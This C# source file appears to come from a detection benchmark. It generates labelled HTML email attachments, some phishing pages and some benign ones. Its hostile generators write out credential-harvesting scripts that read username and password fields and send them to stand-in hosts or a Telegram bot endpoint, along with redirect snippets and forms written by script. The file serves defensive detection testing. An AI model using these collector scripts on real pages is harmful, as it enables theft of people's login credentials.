using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Pages;

/// <summary>Pages whose scripts write a form, send what is typed away, or lead on; and honest pages with forms and scripts.</summary>
internal sealed class ScriptedPhishing : ISampleKind
{
    private static readonly string[] Tops = ["example.com", "example.net", "example.org", "test"];

    public string Name => "scripted-phishing";

    public IEnumerable<Sample> Make(Random random)
    {
        for (var number = 0; number < 4; number++)
        {
            var form = $"<form action=\"{Address(random)}\" method=\"post\"><input type=\"text\" name=\"{random.Word()}\"><input type=\"password\" name=\"{random.Word()}\"><button>OK</button></form>";
            var write = random.Next(4) switch
            {
                0 => $"document.write({random.Text(form)})",
                1 => $"document.body.innerHTML={random.Text(form)}",
                2 => $"document.getElementById('root').insertAdjacentHTML('beforeend',{random.Text(form)})",
                _ => $"document.open();document.write({random.Text(form)});document.close()",
            };
            yield return Hostile(random, "page written by script", $"<div id=\"root\"></div><script>{random.Layered(write)}</script>", "behaviour-hidden-page", "behaviour-ask-credential", "credential-form-attachment");
        }

        foreach (var (what, script) in Collectors(random))
            yield return Hostile(random, what, $"<form id=\"f\"><input id=\"user\" name=\"user\" type=\"email\"><input id=\"secret\" name=\"{random.Word()}\" type=\"password\"><button id=\"go\" type=\"submit\">Continue</button></form><script>{random.Layered(script)}</script>", "behaviour-ask-credential");

        for (var number = 0; number < 3; number++)
        {
            var address = random.Text(Address(random));
            var lead = random.Next(5) switch
            {
                0 => $"window.location.href={address}",
                1 => $"location.replace({address})",
                2 => $"setTimeout(function(){{top.location={address}}},{random.Next(100, 3_000)})",
                3 => $"window[{random.Text("location")}][{random.Text("assign")}]({address})",
                _ => $"var l=document.createElement('a');l.href={address};document.body.appendChild(l);l.click()",
            };
            yield return Sample.Hostile("page that leads on", SampleMail.With(random, SampleFile.Text($"{random.Word()}.html", $"<html><body><p>Loading...</p><script>{random.Layered(lead)}</script></body></html>", "text/html")), [AttackType.CredentialPhishing, AttackType.MaliciousUrl, AttackType.Behaviour], "behaviour-redirect", "html-redirect-attachment");
        }

        foreach (var (what, body) in Honest(random))
            yield return Sample.Benign(what, SampleMail.With(random, SampleFile.Text($"{random.Word()}.html", $"<!DOCTYPE html><html><head><title>{random.Word()}</title></head><body>{body}</body></html>", "text/html")));
    }

    private static Sample Hostile(Random random, string what, string body, params IReadOnlyList<string> reasons) =>
        Sample.Hostile(what, SampleMail.With(random, SampleFile.Text($"{random.Word()}.{random.Pick(["html", "htm", "shtml"])}", $"<html><head><meta charset=\"utf-8\"><title>{random.Word()}</title></head><body>{body}</body></html>", "text/html")), [AttackType.CredentialPhishing], reasons);

    private static string Address(Random random) => random.Next(3) switch
    {
        0 => $"https://{random.Word()}-{random.Word()}.{random.Pick(Tops)}/{random.Word()}.php",
        1 => $"https://api.telegram.org/bot{random.Next(1_000_000, 9_999_999)}:{random.Word()}/sendMessage",
        _ => $"http://{random.Word()}.{random.Pick(Tops)}/{random.Word()}/{random.Next(100, 999)}",
    };

    private static IEnumerable<(string What, string Script)> Collectors(Random random)
    {
        var address = random.Text(Address(random));
        const string Values = "document.getElementById('user').value+':'+document.getElementById('secret').value";
        yield return ("fetch", $"document.getElementById('f').addEventListener('submit',function(e){{e.preventDefault();fetch({address},{{method:'POST',body:new URLSearchParams({{m:{Values}}})}})}});");
        yield return ("request", $"document.getElementById('go').onclick=function(){{var x=new XMLHttpRequest();x.open('POST',{address},true);x.setRequestHeader('Content-Type','application/json');x.onload=function(){{location.href='https://www.example.com'}};x.send(JSON.stringify({{d:{Values}}}));return false}};");
        yield return ("picture", $"document.forms[0].onsubmit=function(){{new Image().src={address}+'?q='+btoa({Values});return false}};");
        yield return ("form data", $"document.querySelector('form').addEventListener('submit',async(e)=>{{e.preventDefault();const d=new FormData(e.target);await fetch({address},{{method:'POST',body:d}});}});");
        yield return ("action", $"document.getElementById('f').method='post';document.getElementById('f').action={address};");
        yield return ("jQuery", $"$(document).ready(function(){{$('#f').on('submit',function(e){{e.preventDefault();$.post({address},{{u:$('#user').val(),p:$('#secret').val()}},function(){{}})}})}});");
    }

    private static IEnumerable<(string What, string Body)> Honest(Random random)
    {
        yield return ("newsletter form", $"<form action=\"https://{random.Word()}.example/subscribe\"><input name=\"email\" type=\"email\"><button>Subscribe</button></form><script>document.forms[0].onsubmit=function(){{return document.forms[0].email.value.indexOf('@')>0}};</script>");
        yield return ("saved page with analytics", $"<article><h1>{random.Word()}</h1><p>{random.Word()} {random.Word()} {random.Word()}</p></article><script>(function(w,d,s,l,i){{w[l]=w[l]||[];w[l].push({{'gtm.start':new Date().getTime(),event:'gtm.js'}});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f)}})(window,document,'script','dataLayer','GTM-{random.Word()}');</script>");
        yield return ("calculator", $"<input id=\"a\" type=\"number\"><input id=\"b\" type=\"number\"><button id=\"c\">=</button><output id=\"o\"></output><script>document.getElementById('c').addEventListener('click',function(){{document.getElementById('o').textContent=Number(document.getElementById('a').value)*{random.Next(2, 30)}+Number(document.getElementById('b').value)}});</script>");
        yield return ("documentation with menu", $"<nav id=\"n\"></nav><h2 id=\"one\">{random.Word()}</h2><p>{random.Word()}</p><h2 id=\"two\">{random.Word()}</h2><script>var h='';document.querySelectorAll('h2').forEach(function(e){{h+='<li><a href=\"#'+e.id+'\">'+e.textContent+'</a></li>'}});document.getElementById('n').innerHTML='<ul>'+h+'</ul>';</script>");
        yield return ("survey", $"<form><label>{random.Word()}<input type=\"radio\" name=\"q\" value=\"1\"></label><textarea name=\"note\"></textarea><button type=\"button\" id=\"s\">Print</button></form><script>document.getElementById('s').onclick=function(){{window.print()}};</script>");
    }
}
